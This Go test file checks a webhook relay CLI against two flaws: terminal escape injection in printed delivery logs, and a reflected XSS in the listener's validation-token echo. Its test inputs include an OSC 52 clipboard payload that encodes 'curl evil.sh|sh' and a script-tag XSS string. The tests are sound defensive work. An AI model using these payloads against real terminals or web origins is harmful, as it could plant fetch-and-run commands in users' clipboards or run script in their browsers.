package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// `relay deliveries show` prints the attempt log's response
// excerpt (what the webhook answered, i.e. chosen by whoever runs the
// receiver) and error text straight to the operator's terminal; only "\n"
// is replaced. An ESC sequence in a webhook's answer (OSC 52 writes the
// clipboard, CSI sequences rewrite or hide lines) reaches the terminal.
// Task and config ids (client-chosen, only length-checked) are printed raw
// by list and show as well.
func TestShowPrintsTerminalEscapes(t *testing.T) {
	evil := "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2K\x1b[1Aok"
	attempt, _ := json.Marshal(map[string]any{"attempt": 1, "status": 500, "response": evil, "outcome": "dead"})
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"id": "n1", "taskId": "t1", "configId": "c1", "status": "dead",
			"attempts": 1, "attemptLog": []json.RawMessage{attempt}})
	}))
	defer api.Close()
	var out, errOut bytes.Buffer
	if code := deliveriesCmd([]string{"show", "n1", "--url", api.URL}, func(string) string { return "" }, &out, &errOut); code != 0 {
		t.Fatalf("exit %d: %s", code, errOut.String())
	}
	if strings.ContainsRune(out.String(), '\x1b') {
		t.Fatalf("terminal control sequences from the webhook's answer reach stdout: %q", out.String())
	}
}

// relay listen echoes ?validationToken without a Content-Type or
// nosniff, so Go sniffs text/html for a token that is markup: a reflected
// XSS on the listener's origin (webhook.Middleware does this right:
// validToken + text/plain + nosniff).
func TestListenEchoIsSniffedAsHTML(t *testing.T) {
	l := &listener{out: &bytes.Buffer{}, attempts: map[string]int{}}
	rec := httptest.NewRecorder()
	l.handle(rec, httptest.NewRequest(http.MethodGet, "/?validationToken=%3Chtml%3E%3Cscript%3Ealert(document.domain)%3C/script%3E", nil))
	if ct := rec.Result().Header.Get("Content-Type"); strings.HasPrefix(ct, "text/html") {
		t.Fatalf("the echoed validation token is served as %q: %q", ct, rec.Body.String())
	}
}
